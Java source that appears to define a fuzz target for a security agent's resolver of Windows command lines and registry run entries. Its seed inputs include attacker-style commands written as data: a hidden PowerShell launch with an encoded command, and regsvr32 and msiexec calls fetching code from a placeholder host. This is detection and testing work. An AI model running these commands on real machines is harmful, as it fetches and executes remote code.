package bzh.vigie.agent.persistence;

import bzh.vigie.agent.fuzz.FuzzTarget;
import bzh.vigie.agent.fuzz.MemoryFiles;
import bzh.vigie.agent.host.HostPath;
import bzh.vigie.agent.host.Reading;
import bzh.vigie.agent.host.Registry.Profile;
import bzh.vigie.agent.host.Registry.State;
import bzh.vigie.agent.persistence.format.WindowsRun;
import bzh.vigie.agent.persistence.windows.Environment;
import bzh.vigie.agent.persistence.windows.Resolved;
import bzh.vigie.agent.persistence.windows.WindowsResolver;
import bzh.vigie.agent.windows.regf.RegKey;
import bzh.vigie.agent.windows.regf.RegText;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;

/** What commands, libraries, drivers and classes lead to, of any text, on a Windows with a few programs and a class. */
public final class CommandLineTargets {
    private static final String SYSTEM = "/C:/Windows/System32/";
    private static final List<String> PROGRAMS = List.of(
            "cmd.exe",
            "rundll32.exe",
            "regsvr32.exe",
            "mshta.exe",
            "wscript.exe",
            "msiexec.exe",
            "conhost.exe",
            "pcalua.exe",
            "forfiles.exe",
            "dllhost.exe",
            "shell32.dll",
            "WindowsPowerShell/v1.0/powershell.exe");
    private static final List<String> SEEDS = List.of(
            "\"C:\\Program Files\\a b.exe\" -x %SystemRoot%",
            "cmd /c start \"\" /min powershell -nop -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
            "rundll32 \"%windir%\\System32\\shell32.dll\",Control_RunDLL a.cpl",
            "regsvr32 /s /n /u /i:https://exemple.fr/a.sct scrobj.dll",
            "mshta vbscript:Execute(\"a\")(window.close)",
            "wscript //B //E:jscript C:\\Users\\agent\\a.txt",
            "msiexec /q /i https://exemple.fr/a.msi",
            "conhost --headless cmd /k forfiles /p c:\\ /m x /c \"cmd /c a.exe\"",
            "pcalua -a C:\\a.exe -c -b",
            "dllhost /Processid:{00000000-0000-0000-0000-000000000001}",
            "\\\\?\\C:\\a.exe:b\\..\\c",
            "powershell -File 'C:\\a b.ps1'; & \"d.ps1\"");

    private CommandLineTargets() {}

    public static List<FuzzTarget> all() {
        MemoryFiles files = new MemoryFiles();
        PROGRAMS.forEach(name -> files.file(SYSTEM + name, name));
        RegKey keys = RegText.parse("""
                [HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion]
                "SystemRoot"="C:\\\\Windows"
                [HKEY_LOCAL_MACHINE\\SOFTWARE\\Classes\\CLSID\\{00000000-0000-0000-0000-000000000001}\\LocalServer32]
                @="dllhost /Processid:{00000000-0000-0000-0000-000000000001}"
                """);
        Profile agent = new Profile(
                WindowsTree.SID, "agent", Optional.of(HostPath.of("/C:/Users/agent")), Reading.found(State.FILE));
        MemoryRegistry registry = new MemoryRegistry(keys, agent);
        WindowsResolver resolver = new WindowsResolver(files, registry);
        Environment environment = Environment.of(registry, agent);
        return List.of(new FuzzTarget(
                "windows-command-line",
                bytes -> {
                    String text = new String(bytes, StandardCharsets.UTF_16LE);
                    for (WindowsRun run : List.of(
                            new WindowsRun.Command(text, false),
                            new WindowsRun.Command(text, true),
                            new WindowsRun.Library(text, false),
                            new WindowsRun.Driver(text),
                            new WindowsRun.Native(text),
                            new WindowsRun.ComClass(text, false))) {
                        Resolved resolved = resolver.resolve(run, environment, Optional.of(WindowsTree.SID));
                        if (resolved.missing() && resolved.target().isEmpty()) {
                            throw new IllegalStateException("missing, and not named: " + resolved);
                        }
                    }
                    Resolved ignored = resolver.folder(text, environment);
                },
                SEEDS.stream()
                        .map(seed -> seed.getBytes(StandardCharsets.UTF_16LE))
                        .toList()));
    }
}
